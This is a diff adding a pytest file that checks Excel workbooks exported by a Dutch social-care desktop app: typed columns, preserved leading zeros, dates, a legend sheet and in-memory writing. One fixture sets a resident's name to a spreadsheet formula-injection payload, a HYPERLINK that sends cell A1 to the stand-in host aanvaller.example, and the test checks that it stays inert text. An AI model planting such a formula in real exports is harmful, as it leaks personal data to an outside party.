@@ -1,0 +1,128 @@
+"""The Excel workbook in case and aggregate bundles, read back as Excel reads it (openpyxl)."""
+
+from __future__ import annotations
+
+import io
+import tempfile
+from datetime import UTC, datetime
+from pathlib import Path
+from typing import Any
+
+import pytest
+from openpyxl import load_workbook
+from sqlalchemy import update
+
+from tests.bundle_helpers import World, build_world
+from waakvlam_desktop.bundles import format as fmt
+from waakvlam_desktop.bundles.export import export_bundle
+from waakvlam_desktop.bundles.reader import OpenedBundle, verify_bytes
+from waakvlam_desktop.clock import FixedClock
+from waakvlam_desktop.documents.workbook import workbook_bytes
+from waakvlam_desktop.domain.exports import Period
+from waakvlam_desktop.storage.models import Referral, Resident
+from waakvlam_desktop.storage.vault import Vault
+
+NOV = Period.parse("2026-11")
+Q4 = Period.parse("2026-Q4")
+HOSTILE = '=HYPERLINK("http://aanvaller.example/?d="&A1;"klik")'
+
+
+@pytest.fixture
+def world(vault: Vault) -> World:
+    world = build_world(vault)
+    with vault.session() as s:
+        s.execute(
+            update(Resident)
+            .where(Resident.household_id == world.households["fam. Jansen"])
+            .values(phone="0612345678", name=HOSTILE)
+        )
+        s.execute(  # the resident agreed to be phoned: the number travels (disclosure spec)
+            update(Referral)
+            .where(Referral.household_id == world.households["fam. Jansen"])
+            .values(consent_may_call=True)
+        )
+    return world
+
+
+def _bundle(world: World, partner: str, period: Period, folder: Path) -> OpenedBundle:
+    with world.vault.session() as s:
+        path = export_bundle(s, world.partners[partner], period, folder).path
+    return verify_bytes(path.read_bytes(), world.identity, world.sender)
+
+
+def _sheet_rows(book: Any, title: str) -> list[dict[str, Any]]:
+    sheet = book[title]
+    header = [c.value for c in sheet[1]]
+    return [dict(zip(header, row, strict=True)) for row in sheet.iter_rows(min_row=2)]
+
+
+def test_case_workbook_has_typed_columns_and_a_legend(world: World, tmp_path: Path) -> None:
+    bundle = _bundle(world, "Wijkteam", NOV, tmp_path)
+    book = load_workbook(io.BytesIO(bundle.members[fmt.WORKBOOK]))
+    assert book.sheetnames[-1] == "Uitleg"
+    assert {"Huishoudens", "Bewoners", "Doorverwijzingen", "Signalen"} <= set(book.sheetnames)
+    for title in book.sheetnames[:-1]:
+        assert book[title].freeze_panes == "A2", title  # the header row stays in view
+    residents = _sheet_rows(book, "Bewoners")
+    jansen = next(r for r in residents if r["Naam"].value == HOSTILE)
+    # A phone number keeps its leading zero: a text cell, not the number 612345678.
+    assert jansen["Telefoon"].value == "0612345678" and jansen["Telefoon"].data_type == "s"
+    # Formula text stays text (no apostrophe needed in a typed workbook).
+    assert jansen["Naam"].data_type == "s"
+    assert "Geboortejaar" not in jansen  # the disclosure spec decides the columns here too
+    referrals = _sheet_rows(book, "Doorverwijzingen")
+    assert referrals and all(isinstance(r["Aangemaakt"].value, datetime) for r in referrals)
+    assert all(r["Aangemaakt"].number_format == "dd-mm-yyyy" for r in referrals)
+    signals = _sheet_rows(book, "Signalen")
+    assert {r["Ernst"].value for r in signals} == {2}
+    assert all(isinstance(r["Waargenomen op"].value, datetime) for r in signals)
+    households = _sheet_rows(book, "Huishoudens")
+    assert all(h["Postcode"].data_type == "s" for h in households)
+    # The same rows as the CSV files, sheet for sheet.
+    assert len(households) == bundle.manifest["counts"]["households"]
+    legend = [[c.value for c in row] for row in book["Uitleg"].iter_rows(min_row=3)]
+    assert ["Ernst", "3", "ernstig"] in legend
+    assert ["Status", "in_behandeling", "u werkt aan deze doorverwijzing"] in legend
+    # No cell anywhere is a formula.
+    for sheet in book.worksheets:
+        for row in sheet.iter_rows():
+            assert all(c.data_type != "f" for c in row)
+
+
+def test_aggregate_workbook_counts_are_numbers(
+    world: World, clock: FixedClock, tmp_path: Path
+) -> None:
+    clock.set(datetime(2027, 1, 5, 9, 0, tzinfo=UTC))  # the quarter is over
+    bundle = _bundle(world, "Gemeente", Q4, tmp_path)
+    book = load_workbook(io.BytesIO(bundle.members[fmt.WORKBOOK]))
+    assert book.sheetnames == ["Aantallen", "Uitleg"]
+    rows = _sheet_rows(book, "Aantallen")
+    counts = [r["Huishoudens"].value for r in rows]
+    assert rows and any(isinstance(v, int) and v > 0 for v in counts)
+    assert all(isinstance(v, int) or v is None for v in counts)
+
+
+def test_handover_bundles_carry_no_workbook(world: World, tmp_path: Path) -> None:
+    bundle = _bundle(world, "Collega", NOV, tmp_path)
+    assert fmt.WORKBOOK not in bundle.members
+
+
+def test_the_workbook_never_touches_disk(
+    world: World, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """XlsxWriter writes temporary files by default; here it must work in memory only."""
+    scratch = tmp_path / "tmp"
+    scratch.mkdir()
+    monkeypatch.setattr(tempfile, "tempdir", str(scratch))
+    monkeypatch.setenv("TMPDIR", str(scratch))
+    seen: list[str] = []
+    real = tempfile.mkstemp
+
+    def watching(*args: Any, **kwargs: Any) -> Any:
+        seen.append(str(args or kwargs))
+        return real(*args, **kwargs)
+
+    monkeypatch.setattr(tempfile, "mkstemp", watching)
+    rows = [["0612345678", "2026-11-10", 3]] * 2000
+    data = workbook_bytes({"residents": (["telefoon", "datum", "aantal"], rows)})
+    assert data.startswith(b"PK") and seen == [] and list(scratch.iterdir()) == []
